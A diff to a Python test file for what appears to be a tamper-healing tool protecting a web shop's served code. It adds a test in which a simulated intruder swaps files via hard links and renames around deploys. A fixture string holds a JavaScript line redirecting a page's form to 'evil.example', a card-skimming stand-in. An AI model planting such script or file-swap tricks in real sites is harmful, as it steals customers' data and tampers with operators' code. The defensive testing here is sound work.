@@ -6,6 +6,7 @@ import json
 import os
 
 from held import EVIL, FILES, GOOD, PAY, Held, end, ok, put, quiet, wait_for
+from tamper import rename_over, rename_over_keep_open
 
 ROUNDS = 12
 SCRIPT = "var shop = 1; document.forms[0].action = 'https://evil.example/'; // EVIL\n"
@@ -126,6 +127,27 @@ def same_inode(s):
        wrong)
 
 
+def after_a_deploy(s):
+    """What a release wrote last is told a little later: no time of grace for anybody else."""
+    seen = []
+    for i in range(ROUNDS):
+        if i % 4 == 0:
+            s.run("deploy", "--", "true", cwd=s.dir)
+        s.intruder([rename_over, rename_over_keep_open, twice][i % 3])
+        seen += [x for x in [s.customer()] if x != GOOD]
+        s.healed()
+    ok(not seen, "just after a deploy others' changes are healed as ever", seen[:3])
+    late = s.log("--type", "open.late")
+    ok(not late, "and no open waits for its end", late[:3])
+
+
+def twice(s):
+    put(s, "uploads/w.txt", "")
+    os.link(s.path("uploads/w.txt"), s.path("uploads/w2.txt"))
+    os.rename(s.path("uploads/w2.txt"), s.path(PAY))
+    put(s, "uploads/w.txt", EVIL)
+
+
 def compiled(s, i, page):
     """As a shop's template cache does it."""
     made = []
@@ -148,6 +170,7 @@ linked(s, "data/cache/l%d.php", PAY, EVIL, GOOD)
 linked(s, "cache/l%d.php", PAY, EVIL, GOOD)
 approved_under_another_name(s)
 same_inode(s)
+after_a_deploy(s)
 ok(s.customer() == GOOD, "customers read approved code")
 s.stop()
 s.done()
